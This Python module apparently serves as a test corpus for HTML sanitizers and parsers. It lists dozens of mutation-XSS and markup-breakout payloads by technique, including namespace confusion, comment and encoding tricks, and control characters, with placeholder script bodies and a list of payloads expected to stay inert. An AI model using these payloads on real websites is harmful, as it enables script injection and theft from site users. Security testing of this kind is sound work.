"""Markup that two readers understand differently: mutation, breakouts, comments, encodings."""

from __future__ import annotations

TECHNIQUES: dict[str, list[str]] = {
    "mutation by math": [
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'><img src=x onerror=«J»>",
        "<math><mtext><img src=x onerror=«J»></mtext></math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=«J»></annotation-xml></math>",
        "<math><mi><style><img src=x onerror=«J»></style></mi><img src=x onerror=«J»>", "<math></p><img src=x onerror=«J»>", "<math><mglyph><svg><mtext><img src=x onerror=«J»>",
        "<math><annotation-xml encoding=application/xhtml+xml><script>«J»</script></annotation-xml></math>",
    ],
    "mutation by svg": [
        "<svg><![CDATA[><img src=x onerror=«J»>]]>", "<svg><title><style><img title='</style><img src=x onerror=«K»>'>", "<svg><desc><noscript><img src=x onerror=«J»></desc><img src=x onerror=«J»>",
        "<svg><style><!--</style><img src=x onerror=«J»>-->", "<svg><textarea><title><img src=x onerror=«J»></svg><img src=x onerror=«J»>", "<svg><mtext><p><img src=x onerror=«J»>", "<svg><br><img src=x onerror=«J»>", "<svg><font color=x><img src=x onerror=«J»>",
    ],
    "mutation by tables": [
        "<table><img src=x onerror=«J»></table>", "<table><td><form><tr><img src=x onerror=«J»>", "<table><caption><svg><img src=x onerror=«J»></table>", "<table><colgroup><svg/onload=«J»></table>",
        "<table><select><script>«J»</script></select></table>", "<select><template><script>1</script></template></select><svg onload=«J»>",
    ],
    "mutation by forms": [
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=«J»>", "<form id=x><svg><form><img src=x onerror=«J»>", "<form><div></form><div></form><img src=x onerror=«J»>",
    ],
    "noscript": ["<noscript><p title='</noscript><img src=x onerror=«K»>'>", "<noscript></noscript><img src=x onerror=«J»>", "<noscript><style></noscript><img src=x onerror=«J»></style>", "<noscript><!--</noscript><img src=x onerror=«J»>-->", "<head><noscript><link x='</noscript><svg onload=«K»>'>"],
    "template": ["<template><p></template><img src=x onerror=«J»>", "<template><template></template></template><svg onload=«J»>", "<template></template><script>«J»</script>"],
    "style breakout": ["<style></style><img src=x onerror=«J»>", "<style><p title='</style><img src=x onerror=«K»>'>", "<style><!--</style><img src=x onerror=«J»>-->", "<style>/*</style><img src=x onerror=«J»>*/", "<style type=x></style x><svg onload=«J»>"],
    "title, textarea, xmp breakout": [
        "<title><p title='</title><img src=x onerror=«K»>'>", "<textarea><p title='</textarea><img src=x onerror=«K»>'>", "<xmp><p title='</xmp><img src=x onerror=«K»>'>", "<iframe><p title='</iframe><img src=x onerror=«K»>'>",
        "<noembed><p title='</noembed><img src=x onerror=«K»>'>", "<noframes><p title='</noframes><img src=x onerror=«K»>'>", "<script>x='</script><img src=x onerror=«K»>'",
    ],
    "comments": [
        "<!--><img src=x onerror=«J»>-->", "<!---><img src=x onerror=«J»>-->", "<!--x--!><img src=x onerror=«J»>-->", "<!--<!--x--><img src=x onerror=«J»>-->", "<!-- --!><script>«J»</script>", "<!-x><img src=x onerror=«J»>", "<!><img src=x onerror=«J»>",
        "<?x><img src=x onerror=«J»>?>", "</x --><img src=x onerror=«J»>", "<!DOCTYPE x [<!ENTITY><img src=x onerror=«J»>]>", "<!--\x00--><img src=x onerror=«J»>",
    ],
    "conditional comments": ["<!--[if gte IE 4]><![endif]--><img src=x onerror=«J»>", "<![if !IE]><script>«J»</script><![endif]>", "<!--[if mso]><!--><img src=x onerror=«J»><!--<![endif]-->", "<!--[if !mso]><!-- --><svg onload=«J»><!--<![endif]-->"],
    "quotes and blanks": [
        '<img src=x title="a"onerror=«J»>', "<img src=x title='a'onerror=«J»>", '<img """><script>«J»</script>">', "<img src=x/onerror=«J»>".replace("x/", "x /"), "<img src=x '=' onerror=«J»>", "<img src=`x`onerror=«J»>".replace("`o", "` o"),
        "<p title=x>y</p title='><img src=x onerror=«K»>'><img src=x onerror=«J»>", "<a href=x<img/src=x/onerror=«J»></a>".replace("x<", "x><"), "<<img src=x onerror=«J»>", "<img src=x onerror=«J» <b>", "<b/<img src=x onerror=«J»>".replace("/<", "/><"),
        "<img src=x\r\nonerror=«J»>", "<img\x0bsrc=x><img\x0csrc=x\x0conerror=«J»>", "<x =\"'><img src=x onerror=«K»>\"><img src=x onerror=«J»>",
    ],
    "null and controls": ["<img src=x onerror=«J»\x00>", "<img src=\x00x onerror=«J»>", "\x00<script>«J»</script>", "<svg\x0conload=«J»>", "<img src=x title=\x00 onerror=«J»>", "<p>\x00\x00</p><img src=x onerror=«J»>"],
    "entities": ["<img src=x onerror='&#95;&#95;hit(`ID`)'>".replace("`ID`", "&#x27;«I»&#x27;"), "<img src=x onerror=\"&lowbar;_hit('«I»')\">", "<a href='&#x6A&#x61&#x76&#x61script&colon;«K»'>x</a>", "<iframe srcdoc='&lt;script&gt;parent.«K»&lt;/script&gt;'></iframe>", '<img src=x onerror="«K»&Tab;">', "<svg><script>&#95;&#95;hit(&#39;«I»&#39;)</script></svg>"],
    "unicode": ["<img src=x onerror=\"\\u005f_hit('«I»')\">", "<img src=x onerror=«J»\u2028>", "<script>\u005f\\u005fhit('«I»')</script>", "<img src=x onerror=\"window['\\x5f\\x5fhit']('«I»')\">", "<b\u00e9><img src=x onerror=«J»>", "\ufeff<script>«J»</script>", "\u200b<svg onload=«J»>", "\u202e<img src=x onerror=«J»>"],
    "utf-16 with a mark": ["<script>«J»</script>", "<img src=x onerror=«J»>", "<img src='«U»'>"],
    "iso-2022-jp escapes": ["<a title='\x1b$B'>\x1b(B</a><img title='><img src=x onerror=«J»>'><script>«J»</script>", '<img alt="\x1b$B"> \x1b(B"><img src=x onerror=«J»>', "\x1b(J<img src=x onerror=«J»>"],
    "long": ["<img " + "a" * 5000 + " src=x onerror=«J»>", "<p>" + "x" * 5000 + "<script>«J»</script>", "<img src='«U»?" + "x" * 2000 + "'>", "<" + "a" * 3000 + "><img src=x onerror=«J»>"],
    "unended": ["<img src=x onerror=«J» ", "<svg onload=«J»//", "<script>«J»", "<img src='«U»'", '<p title="><img src=x onerror=«K»>', "<b><i></b><img src=x onerror=«J»>", "</p></div></body></html><img src=x onerror=«J»>", "<body><head><script>«J»</script>", "<html><frameset><frame src='«U»'>", "</br><svg onload=«J»>", "<plaintext></plaintext><p title='x'>".replace("<plaintext></plaintext>", "<img src=x onerror=«J»><plaintext>")],
}  # fmt: skip
ASLEEP = [
    "+ADw-script+AD4-«K»+ADw-/script+AD4-", "<scr\x00ipt>«J»</scr\x00ipt>", "<scr<script>ipt>1</scr</script>ipt>".replace("1", ""), "&lt;script&gt;«J»&lt;/script&gt;", "%3Cscript%3E«J»%3C/script%3E",
    "＜script＞«J»＜/script＞", "<noscript><img src=x onerror=«J»></noscript>", "<template><img src=x onerror=«J»></template>", "<textarea><img src=x onerror=«J»></textarea>", "<plaintext><img src=x onerror=«J»>", "<!--<img src=x onerror=«J»>-->",
    "<![CDATA[<img src=x onerror=«J»", "<script type=text/plain>«J»</script>", "<script type=application/json>«J»</script>", "<xss:script>«J»</xss:script>", "<?xml-stylesheet href='javascript:«K»'?>", "<!--[if IE]><script>«J»</script><![endif]-->", "¼script¾«J»¼/script¾",
]  # fmt: skip
